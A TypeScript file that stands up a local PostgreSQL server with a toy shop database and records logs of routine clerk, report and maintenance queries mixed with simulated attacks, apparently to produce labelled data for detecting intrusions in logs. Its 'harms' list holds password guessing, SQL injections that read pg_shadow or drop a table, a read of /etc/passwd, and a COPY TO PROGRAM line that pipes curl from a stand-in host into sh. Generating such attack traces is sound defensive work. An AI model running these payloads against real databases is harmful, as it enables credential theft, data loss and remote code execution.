/**
 * PostgreSQL 15 as it is installed (PostgreSQL licence): a shop's database that logs statements, connections and errors. Clerks order and count, a nightly
 * job cleans up, the server is restarted and gets a table more, which is no harm. Harm is guessed passwords, injected statements, a reader of
 * all tables, commands of the server's shell.
 */
import { execFileSync } from "node:child_process";
import { appendFileSync, chmodSync, chownSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { answering, freePort, Log, type Program, ran } from "./recorder.ts";

/** Lines of any session, and of what the server does by itself. */
const USUAL =
  /connection (?:received|authenticated|authorized)|disconnection: |LOG: {2}duration: | LOG: {2}(?:automatic|checkpoint)|^\s/;
const BINARIES = "/usr/lib/postgresql";
const GOODS = ["lamp", "chair", "kettle", "basket", "mirror", "clock"];
const NAMES = ["anna", "bela", "cleo", "dora", "emil", "fritz", "gita", "hugo"];

/** About `lines` lines of a database's log. Throws where PostgreSQL is not installed or there is no user postgres. */
export async function recordPostgres(folder: string, random: () => number, lines: number): Promise<Log> {
  const draw = (most: number) => Math.floor(random() * most);
  const one = <T>(all: readonly T[]) => all[draw(all.length)]!;
  const binaries = join(BINARIES, readdirSync(BINARIES).sort((a, b) => Number(b) - Number(a))[0]!, "bin");
  const [uid, gid] = ["-u", "-g"].map((which) => Number(execFileSync("id", [which, "postgres"], { encoding: "utf8" })));
  const owner = { uid: uid!, gid: gid! };
  chmodSync(folder, 0o755);
  chownSync(folder, owner.uid, owner.gid);
  const data = join(folder, "data");
  writeFileSync(join(folder, "word"), "deep\n", { mode: 0o644 });
  execFileSync(
    join(binaries, "initdb"),
    ["-D", data, "-U", "owner", "-A", "scram-sha-256", `--pwfile=${join(folder, "word")}`],
    {
      ...owner,
      stdio: "ignore",
    },
  );
  const port = await freePort();
  appendFileSync(
    join(data, "postgresql.conf"),
    `port = ${port}\nlisten_addresses = '127.0.0.1'\nunix_socket_directories = ''\nlog_statement = 'all'\nlog_connections = on\nlog_disconnections = on
log_duration = on\nlog_checkpoints = on\nlog_line_prefix = '%m [%p] %q%u@%d '\nlog_autovacuum_min_duration = 0\nautovacuum_naptime = 5\ncheckpoint_timeout = 30
shared_buffers = 16MB\nfsync = off\nlog_timezone = 'UTC'\n`,
  );
  const log = new Log(folder, USUAL);
  const server: Program = { path: join(binaries, "postgres"), env: { ...process.env, LC_ALL: "C" } };
  const start = async () => {
    log.start(server, ["-D", data], owner);
    await answering(port);
  };
  const sql = (user: string, word: string, database: string, text: string) => {
    const env = { ...process.env, PGPASSWORD: word, PGCONNECT_TIMEOUT: "5" };
    return ran(
      { path: join(binaries, "psql"), env },
      ["-X", "-q", "-h", "127.0.0.1", "-p", String(port), "-U", user, "-d", database],
      text,
    );
  };
  await start();
  await sql(
    "owner",
    "deep",
    "postgres",
    "CREATE DATABASE shop; CREATE USER clerk PASSWORD 'blue'; CREATE USER report PASSWORD 'green';",
  );
  await sql(
    "owner",
    "deep",
    "shop",
    `CREATE TABLE customers (id serial PRIMARY KEY, name text UNIQUE, mail text);
CREATE TABLE orders (id serial PRIMARY KEY, customer int REFERENCES customers, item text, pieces int CHECK (pieces > 0), at timestamptz DEFAULT now());
GRANT ALL ON ALL TABLES IN SCHEMA public TO clerk; GRANT ALL ON ALL SEQUENCES IN SCHEMA public TO clerk; GRANT SELECT ON ALL TABLES IN SCHEMA public TO report;`,
  );
  let stock = false;
  const clerk = () => {
    const texts = Array.from({ length: 2 + draw(5) }, () => {
      const kind = random();
      if (kind < 0.15)
        return `INSERT INTO customers (name, mail) VALUES ('${one(NAMES)}${draw(500)}', '${one(NAMES)}@mail.example');`; // some names are taken
      if (kind < 0.45)
        return `INSERT INTO orders (customer, item, pieces) VALUES (${1 + draw(20)}, '${one(GOODS)}', ${1 + draw(9)});`;
      if (kind < 0.7) return `SELECT name, mail FROM customers WHERE id = ${1 + draw(60)};`;
      if (kind < 0.8) return `BEGIN; UPDATE orders SET pieces = pieces + 1 WHERE id = ${1 + draw(300)}; COMMIT;`;
      if (stock && kind < 0.9) return `UPDATE stock SET pieces = pieces - 1 WHERE item = '${one(GOODS)}';`;
      return `SELECT item, sum(pieces) FROM orders WHERE customer = ${1 + draw(60)} GROUP BY item;`;
    });
    return sql("clerk", "blue", "shop", texts.join("\n"));
  };
  const report = () =>
    sql(
      "report",
      "green",
      "shop",
      "SELECT date_trunc('day', at) AS day, count(*) FROM orders GROUP BY day ORDER BY day;",
    );
  const nightly = () => sql("owner", "deep", "shop", "VACUUM ANALYZE orders; REINDEX TABLE customers; CHECKPOINT;");
  const harms = [
    async () => {
      for (let left = 2 + draw(6); left > 0; --left)
        await sql(one(["postgres", "admin", "owner", "root"]), String(draw(1e6)), one(["postgres", "shop"]), "");
    },
    () =>
      sql(
        "clerk",
        "blue",
        "shop",
        `SELECT name, mail FROM customers WHERE id = ${draw(60)} UNION SELECT usename, passwd FROM pg_shadow;`,
      ),
    () =>
      sql(
        "clerk",
        "blue",
        "shop",
        `SELECT name, mail FROM customers WHERE name = '' OR 1=1; DROP TABLE customers; --';`,
      ),
    () =>
      sql(
        "clerk",
        "blue",
        "shop",
        one([
          "SELECT pg_read_file('/etc/passwd');",
          "COPY (SELECT '') TO PROGRAM 'curl 192.0.2.9|sh';",
          "SELECT pg_sleep(0.2) FROM pg_user;",
        ]),
      ),
    () =>
      sql(
        "report",
        "green",
        "shop",
        "SELECT table_name FROM information_schema.tables; SELECT * FROM customers; SELECT version();",
      ),
  ];
  let [restarted, next] = [false, lines * 0.22];
  for (let count = 0; count < lines; count = log.lines) {
    for (let left = 5; left > 0; --left) await clerk();
    if (random() < 0.3) await report();
    if (random() < 0.05) await nightly();
    if (count > next) {
      next = count + lines * 0.05 * (0.5 + random());
      await log.harm(one(harms));
    }
    if (!restarted && count > lines * 0.5) {
      await log.stop("SIGINT");
      await start();
      await sql("owner", "deep", "shop", "CREATE TABLE stock (item text, pieces int); GRANT ALL ON stock TO clerk;");
      await sql("clerk", "blue", "shop", GOODS.map((item) => `INSERT INTO stock VALUES ('${item}', 1000);`).join("\n"));
      [restarted, stock] = [true, true];
    }
  }
  await log.stop("SIGINT");
  return log;
}
